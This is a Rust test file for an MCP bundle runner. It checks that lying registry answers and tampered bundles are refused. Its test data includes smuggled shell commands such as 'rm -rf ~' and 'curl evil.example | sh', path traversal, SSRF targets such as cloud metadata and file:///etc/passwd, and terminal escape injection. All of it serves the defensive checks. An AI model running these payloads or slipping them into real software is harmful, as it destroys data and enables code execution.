//! Registries that lie, and files that are not what was said.

use serde_json::Value;
use serde_json::json;

use crate::api::Api;
use crate::api::CERTIFICATION;
use crate::api::FILE;
use crate::api::NAME;
use crate::api::OF_REGISTRY;
use crate::api::REFERENCE;
use crate::api::bundle;
use crate::api::entry;
use crate::api::mcpb;
use crate::api::run;
use crate::api::start;
use crate::bed::TestBed;
use crate::server::Reply;
use crate::server::Script;
use crate::server::Server;
use smcp_model::digest::Digest;

/// Checks that nothing was started, and that everything in the cache has its digest.
#[track_caller]
fn nothing_came_of_it(bed: &TestBed, what: &str) {
    assert!(!bed.has("started"), "{what}: it was started");
    for blob in bed.list(".mcp/cache/blobs") {
        let bytes = std::fs::read(bed.path(&format!(".mcp/cache/blobs/{blob}"))).unwrap();
        assert_eq!(blob, Digest::of(&bytes).to_string().replace(':', "-"), "{what}: something false is in the cache");
    }
}

/// Runs the good version from a registry whose answer about it is changed.
#[track_caller]
fn refused(what: &str, change: impl FnOnce(&str, &mut Value), exit: i32, says: &[&str]) {
    let server = start(|base| {
        let mut api = Api::good(base);
        let mut entry = api.entries.remove(0);
        change(base, &mut entry);
        // What is asked for is still found under its own name and version.
        let path = "/v0.1/servers/io.github.acme%2Ftool/versions/1.0.0";
        api.files.insert(path.to_owned(), entry.to_string().into_bytes());
        api
    });
    let bed = TestBed::new();
    let ran = run(&bed, &server, &format!("run {REFERENCE}"));
    assert_eq!(ran.code, exit, "{what}: {ran}");
    for word in says {
        assert!(ran.stderr.contains(word), "{what}: `{word}` is not in: {ran}");
    }
    nothing_came_of_it(&bed, what);
}

#[test]
fn an_answer_about_something_else_is_refused() {
    for (what, pointer, value, exit, says) in [
        ("another name", "/server/name", json!("io.github.acme/other"), 3, "the server in the registry's answer"),
        ("capital letters", "/server/name", json!("io.github.Acme/tool"), 3, "the server in the registry's answer"),
        ("another version", "/server/version", json!("1.0.1"), 3, "the version in the registry's answer"),
        ("no version", "/server/version", json!("1 0"), 3, "which is no version"),
        ("`latest`", "/server/version", json!("latest"), 3, "which is no version"),
        (
            "a name that steers",
            "/server/name",
            json!("io.github.acme/t\u{1b}[2Jool\u{202e}"),
            3,
            "\\u{1b}[2Jool\\u{202e}",
        ),
        (
            "a name that is none",
            "/server/name",
            json!(["io.github.acme/tool"]),
            3,
            "`server.name` is missing, or no text",
        ),
        ("no server", "/server", json!(null), 3, "`server` is missing, or no object"),
        ("packages that are none", "/server/packages", json!({}), 3, "`server.packages` is no list"),
        ("words that are none", "/_meta", json!("active"), 3, "`_meta` is no object"),
    ] {
        refused(what, |_, entry| *entry.pointer_mut(pointer).unwrap() = value, exit, &[says]);
    }
}

#[test]
fn a_status_that_is_not_known_never_runs() {
    for (status, says) in [
        (json!("deleted"), "`deleted`"),
        (json!("Active"), "`unknown: Active`"),
        (json!("published"), "`unknown: published`"),
        (json!("revoked"), "`unknown: revoked`"),
        (json!(1), "`unknown: 1`"),
        (json!("active\u{1b}[8m"), "`unknown: active\\u{1b}[8m`"),
    ] {
        let what = status.to_string();
        refused(&what, |_, entry| entry["_meta"][OF_REGISTRY]["status"] = status, 4, &[says]);
    }
}

#[test]
fn what_has_no_digest_of_its_own_is_refused() {
    let package = "/server/packages/0";
    for (what, change, exit, says) in [
        ("no digest", json!({"fileSha256": null}), 2, "has no `fileSha256`"),
        ("a short digest", json!({"fileSha256": "abc"}), 3, "`fileSha256` of a package"),
        ("a digest in capitals", json!({"fileSha256": "A".repeat(64)}), 3, "`fileSha256` of a package"),
        ("a digest of another kind", json!({"fileSha256": format!("sha512:{}", "a".repeat(64))}), 3, "`fileSha256`"),
        ("a digest that is a number", json!({"fileSha256": 1}), 3, "`fileSha256` of a package is no text"),
        ("another transport", json!({"transport": {"type": "sse", "url": "https://x"}}), 2, "speaks sse"),
        ("another kind", json!({"registryType": "nuget"}), 2, "it is a package of nuget"),
        ("an image", json!({"registryType": "oci"}), 2, "it is a container image"),
        ("no kind", json!({"registryType": null}), 3, "`registryType` of a package is missing"),
    ] {
        refused(what, |_, entry| merge(entry.pointer_mut(package).unwrap(), &change), exit, &[says]);
    }
    refused("nothing", |_, entry| entry["server"]["packages"] = json!([]), 2, &["it has no package"]);
    let remote = json!([{"type": "streamable-http", "url": "https://mcp.example.com/mcp"}]);
    let only_remote = |_: &str, entry: &mut Value| {
        entry["server"]["packages"] = json!(null);
        entry["server"]["remotes"] = remote;
    };
    refused("a remote server", only_remote, 2, &["it runs elsewhere"]);
}

fn merge(value: &mut Value, change: &Value) {
    for (key, new) in change.as_object().unwrap() {
        value[key] = new.clone();
    }
}

#[test]
fn packages_of_npm_and_pypi_are_imported() {
    let npm = |identifier: &str, version: Value| json!([{"registryType": "npm", "identifier": identifier, "version": version, "transport": {"type": "stdio"}}]);
    let pypi = json!([{"registryType": "pypi", "registryBaseUrl": "https://pypi.org/", "identifier": "mcp-tool",
        "version": "1.0.0", "transport": {"type": "stdio"}}]);
    let elsewhere = json!([{"registryType": "npm", "registryBaseUrl": "https://npm.evil.example", "identifier": "tool",
        "version": "1.0.0", "transport": {"type": "stdio"}}]);
    let two = json!([npm("@acme/tool", json!("1.0.0"))[0], pypi[0]]);
    for (packages, says) in [
        (npm("@acme/tool", json!("1.0.0")), vec!["`smcp import npm:@acme/tool@1.0.0` makes a package of it"]),
        (npm("tool", json!(null)), vec!["`smcp import npm:tool` makes a package of it"]),
        (pypi, vec!["`smcp import pypi:mcp-tool==1.0.0` makes a package of it"]),
        (two, vec!["smcp import npm:@acme/tool@1.0.0", "smcp import pypi:mcp-tool==1.0.0"]),
        (elsewhere, vec!["from https://npm.evil.example"]),
        (npm("tool; rm -rf ~", json!("1.0.0")), vec!["with a name that none has"]),
        (npm("tool", json!("1.0.0` && curl evil.example | sh")), vec!["with a name that none has"]),
        (npm("--help", json!("1.0.0")), vec!["with a name that none has"]),
    ] {
        let what = packages.to_string();
        refused(&what, |_, entry| entry["server"]["packages"] = packages, 2, &says);
    }
}

#[test]
fn a_file_that_is_not_what_was_said_is_refused() {
    let good = bundle(|_| ());
    let tarball = smcp_bed::gzip(b"tar");
    for (what, bytes, says) in [
        ("swapped", bundle(|manifest| manifest["description"] = "evil".into()), "the bundle of"),
        ("cut off", good[..good.len() / 2].to_vec(), "the bundle of"),
        ("longer", [good.clone(), b"x".to_vec()].concat(), "the bundle of"),
        ("another archive", tarball, "gzip"),
        ("empty", Vec::new(), "the bundle of"),
    ] {
        let server = start(|base| {
            let mut api = Api::good(base);
            api.files.insert(FILE.to_owned(), bytes);
            api
        });
        let bed = TestBed::new();
        run(&bed, &server, &format!("run {REFERENCE}")).exits(3).says(&[says]);
        nothing_came_of_it(&bed, what);
        assert_eq!(bed.list(".mcp/cache/blobs"), [""; 0], "{what}");
    }
}

#[test]
fn a_bundle_with_the_right_digest_is_still_read_strictly() {
    let good = bundle(|_| ());
    type Case = (&'static str, Vec<u8>, &'static str);
    let cases: Vec<Case> = vec![
        ("no zip", b"MZ".to_vec(), "it is no zip archive"),
        ("a tar.gz", smcp_bed::gzip(b"tar"), "it is no zip archive"),
        ("two ends", [good.clone(), good.clone()].concat(), "the MCP bundle's archive is refused"),
        ("no manifest", smcp_bed::zip(&[("run", "", 0o755)]), "no manifest.json in its root"),
        ("outside", smcp_bed::zip(&[("manifest.json", "{}", 0o644), ("../evil", "", 0o755)]), "leads elsewhere"),
        ("of uv", bundle(|manifest| manifest["server"]["type"] = "uv".into()), "fetches at every start"),
        (
            "npx",
            bundle(|manifest| manifest["server"]["mcp_config"] = json!({"command": "npx", "args": ["-y", "evil"]})),
            "fetches at every start",
        ),
        (
            "a program of the system",
            bundle(|manifest| manifest["server"]["mcp_config"]["command"] = "/bin/sh".into()),
            "expected a name, or a path that begins with ${__dirname}",
        ),
        (
            "another system",
            bundle(|manifest| manifest["compatibility"] = json!({"platforms": ["win32"]})),
            "it is for win32",
        ),
    ];
    for (what, bytes, says) in cases {
        let (bed, server) = (TestBed::new(), start(|base| Api::of(base, "1.0.0", bytes)));
        run(&bed, &server, &format!("run {REFERENCE}")).exits(3).says(&[says]);
        nothing_came_of_it(&bed, what);
    }
}

#[test]
fn a_file_lies_where_a_connection_may_go() {
    for (url, says) in [
        ("https://169.254.169.254/latest/meta-data", "an address that no server on the network has"),
        ("http://example.com/tool.mcpb", "only https:// is followed"),
        ("file:///etc/passwd", "only https:// is followed"),
        ("https://me:secret@example.com/x", "it has a user name or a password in it"),
        ("/relative", "names a bundle that it does not have"),
        ("", "it is empty"),
    ] {
        refused(url, |_, entry| entry["server"]["packages"][0]["identifier"] = url.into(), 2, &[says]);
    }
    // The same behind a redirect.
    let server = Server::start_with(|address| {
        let mut script = Api::good(&format!("http://{address}")).script();
        script.set(FILE, Reply::to("https://169.254.169.254/latest/meta-data"));
        script
    });
    let bed = TestBed::new();
    run(&bed, &server, &format!("run {REFERENCE}")).exits(2).says(&["an address that no server on the network has"]);
    nothing_came_of_it(&bed, "a redirect");
}

#[test]
fn several_bundles_need_a_choice() {
    let other = bundle(|manifest| manifest["description"] = "for another system".into());
    let digest = Digest::of(&other).to_string();
    let server = start(|base| {
        let mut api = Api::good(base);
        let packages = &mut api.entries[0]["server"]["packages"];
        packages.as_array_mut().unwrap().push(mcpb(&format!("{base}/files/other.mcpb"), &other));
        api.files.insert("/files/other.mcpb".to_owned(), other);
        api
    });
    let bed = TestBed::new();
    run(&bed, &server, &format!("run {REFERENCE}")).exits(2).says(&[
        "several MCP bundles",
        "@sha256:",
        "/files/other.mcpb",
    ]);
    nothing_came_of_it(&bed, "several");
    run(&bed, &server, &format!("run {NAME}@{digest}")).succeeds();
}

#[test]
fn what_is_not_offered_any_more_is_forgotten() {
    for (what, change, exit) in [
        ("deleted", json!({"status": "deleted"}), 4),
        ("another kind of package", json!({"packages": [{"registryType": "npm", "identifier": "tool"}]}), 2),
        ("gone", json!({"gone": true}), 2),
    ] {
        let bed = TestBed::new();
        let path = "/v0.1/servers/io.github.acme%2Ftool/versions/1.0.0";
        let server = Server::start_with(|address| {
            let api = Api::good(&format!("http://{address}"));
            let good = Reply::ok(api.entries[0].to_string());
            let mut changed = api.entries[0].clone();
            if let Some(status) = change.get("status") {
                changed["_meta"][OF_REGISTRY]["status"] = status.clone();
            }
            if let Some(packages) = change.get("packages") {
                changed["server"]["packages"] = packages.clone();
            }
            let changed =
                if change.get("gone").is_some() { Reply::error(404, "gone") } else { Reply::ok(changed.to_string()) };
            let mut script = api.script();
            script.set_each(path, vec![good, changed, Reply::error(503, "down")]);
            script
        });
        run(&bed, &server, &format!("run {REFERENCE}")).succeeds();
        std::fs::remove_file(bed.path("started")).unwrap();
        run(&bed, &server, &format!("run {REFERENCE}")).exits(exit);
        // The registry is down, and what the cache knew must not take its place.
        let ran = run(&bed, &server, &format!("run {REFERENCE}"));
        assert!([2, 4].contains(&ran.code), "{what}: {ran}");
        assert!(!bed.has("started"), "{what}");
    }
}

/// Lists, and asks for the latest version, of a registry with this script.
fn listed(script: impl FnOnce(&str) -> Script, exit: i32, says: &str) {
    let server = Server::start_with(|address| script(&format!("http://{address}")));
    let bed = TestBed::new();
    run(&bed, &server, "registry list").refuses(exit, &[says]);
    run(&bed, &server, &format!("run {NAME}@latest")).refuses(exit, &[says]);
    nothing_came_of_it(&bed, says);
}

#[test]
fn lists_end_or_are_refused() {
    let of = |page: Value| move |_: &str| Script::otherwise(move |_| Some(Reply::ok(page.to_string())));
    let good = entry(NAME, "1.0.0", &json!([]));
    listed(of(json!({"servers": {}})), 3, "`servers` is missing, or no list");
    listed(of(json!({})), 3, "`servers` is missing, or no list");
    listed(of(json!({"servers": [], "metadata": {"nextCursor": 5}})), 3, "`metadata.nextCursor` is no text");
    listed(of(json!({"servers": [], "metadata": {"nextCursor": "x"}})), 3, "its pages lead in a circle");
    let long = "x".repeat(5000);
    listed(of(json!({"servers": [], "metadata": {"nextCursor": long}})), 3, "`metadata.nextCursor` is too long");
    let huge = json!({"servers": [good], "padding": "x".repeat(9 * 1024 * 1024)});
    listed(of(huge), 3, "bytes, the most that is read");
    // Each page is a new one, and there is no end.
    listed(
        |_| {
            let next =
                |path: &str| path.rsplit_once("cursor=").map_or(0, |(_, number)| number.parse::<u64>().unwrap()) + 1;
            Script::otherwise(move |path| {
                let page = json!({"servers": [], "metadata": {"nextCursor": next(path).to_string()}});
                Some(Reply::ok(page.to_string()))
            })
        },
        3,
        "pages, the most that are read",
    );
    // A page in the middle is missing: a part is never taken for the whole.
    listed(
        |_| {
            Script::otherwise(|path| {
                if path.contains("cursor=") {
                    return None;
                }
                Some(Reply::ok(json!({"servers": [], "metadata": {"nextCursor": "x"}}).to_string()))
            })
        },
        3,
        "a page of it is missing",
    );
}

#[test]
fn what_is_damaged_in_a_list_does_no_harm_to_the_others() {
    let server = start(|base| {
        let mut api = Api::good(base);
        let mut damaged = entry("io.github.acme/damaged", "1.0.0", &json!([{"registryType": 5}]));
        damaged["_meta"] = json!([]);
        api.entries.extend([damaged, json!({}), json!(5), json!({"server": {"name": "\u{202e}/x", "version": "1"}})]);
        // The server of the tests finds latest versions by its own word.
        let page = json!({"servers": api.entries});
        api.files.insert("/v0.1/servers".to_owned(), page.to_string().into_bytes());
        api
    });
    let bed = TestBed::new();
    let ran =
        run(&bed, &server, "--json registry list").succeeds().says(&["3 more have names", "io.github.acme/damaged: "]);
    let expected = [
        json!({"package": "io.github.acme/damaged", "latest_version": null}),
        json!({"package": NAME, "latest_version": "1.0.0"}),
    ];
    assert_eq!(*ran.document()["packages"].as_array().unwrap(), expected);
}

#[test]
fn what_would_fill_the_memory_is_not_kept() {
    let of = |servers: Value| {
        let page = json!({"servers": servers}).to_string();
        move |_: &str| Script::otherwise(move |_| Some(Reply::ok(page.clone())))
    };
    let long = |length: usize| "1".repeat(length);
    let mcpb = json!({"registryType": "mcpb", "identifier": "https://x", "fileSha256": "a".repeat(64)});
    for (servers, says) in [
        (json!([entry(NAME, &long(300), &json!([]))]), "that is too long"),
        (json!([entry(NAME, "1.0.0", &json!(vec![mcpb.clone(); 65]))]), "that is too long"),
        (json!([entry(NAME, "1.0.0", &json!([{"registryType": "mcpb", "identifier": long(9000)}]))]), "is too long"),
    ] {
        let server = Server::start_with(|_| of(servers)(""));
        let bed = TestBed::new();
        run(&bed, &server, &format!("run {NAME}@latest")).refuses(3, &[says]);
    }
    // Many versions, each within its bounds.
    let heavy =
        json!({"registryType": "mcpb", "identifier": format!("https://{}", long(8000)), "fileSha256": "a".repeat(64)});
    let server = Server::start_with(|_| {
        Script::otherwise(move |path| {
            let page: usize = path.rsplit_once("cursor=").map_or(0, |(_, number)| number.parse().unwrap());
            let servers: Vec<Value> = (0..15)
                .map(|number| entry(NAME, &format!("{page}.{number}.0"), &json!(vec![heavy.clone(); 60])))
                .collect();
            let next = json!({"nextCursor": (page + 1).to_string()});
            Some(Reply::ok(json!({"servers": servers, "metadata": next}).to_string()))
        })
    });
    let bed = TestBed::new();
    run(&bed, &server, &format!("run {NAME}@latest")).refuses(3, &["more than is kept"]);
}

#[test]
fn a_version_stands_in_a_list_once() {
    let server = start(|base| {
        let mut api = Api::good(base);
        let again = bundle(|manifest| manifest["description"] = "evil".into());
        api.entries.push(entry(NAME, "1.0.0", &json!([mcpb(&format!("{base}{FILE}"), &again)])));
        api
    });
    let bed = TestBed::new();
    run(&bed, &server, &format!("run {NAME}@latest")).exits(3).says(&["version `1.0.0` twice"]);
    nothing_came_of_it(&bed, "twice");
    let server = start(|base| {
        let mut api = Api::good(base);
        let other = entry("io.github.acme/other", "9.0.0", &json!([]));
        let page = json!({"servers": [api.entries[0], other]});
        api.files.insert("/v0.1/servers/io.github.acme%2Ftool/versions".to_owned(), page.to_string().into_bytes());
        api
    });
    run(&bed, &server, &format!("run {NAME}@latest")).exits(3).says(&["the server in the registry's answer"]);
}

#[test]
fn a_certification_does_not_make_other_bytes_good() {
    let certified = Digest::of(&bundle(|_| ())).to_string();
    let evil = bundle(|manifest| manifest["description"] = "evil".into());
    let server = start(|base| {
        let mut api = Api::of(base, "1.0.0", evil);
        api.entries[0]["_meta"][CERTIFICATION] = json!({"subject_digest": certified, "level": 3, "score": 100});
        api
    });
    let bed = TestBed::new();
    bed.write(".mcp/config.yaml", "policy: { min_cert_level: 1, min_score: 60 }\n");
    run(&bed, &server, &format!("run {REFERENCE}")).exits(4).says(&["it is of other bytes"]);
    nothing_came_of_it(&bed, "a certification of other bytes");
}

#[test]
fn the_hubs_answers_are_none_of_this_api() {
    let page = Reply::with(200, &[("content-type", "text/html")], "<html>");
    for (what, reply, exit, says) in [
        ("a document of the hub", Reply::ok(json!({"package": NAME}).to_string()), 3, "`server` is missing"),
        ("a page", page, 2, "answered with a web page"),
        ("nothing", Reply::ok(""), 3, "it is empty"),
        ("a key twice", Reply::ok("{\"server\":{},\"server\":{}}"), 3, "stands twice"),
        ("locked", Reply::error(401, "who are you"), 2, "log in"),
    ] {
        let mut script = Script::default();
        script.set("/v0.1/servers/", reply);
        let (bed, server) = (TestBed::new(), Server::start(script));
        run(&bed, &server, &format!("run {REFERENCE}")).exits(exit).says(&[says]);
        nothing_came_of_it(&bed, what);
    }
}
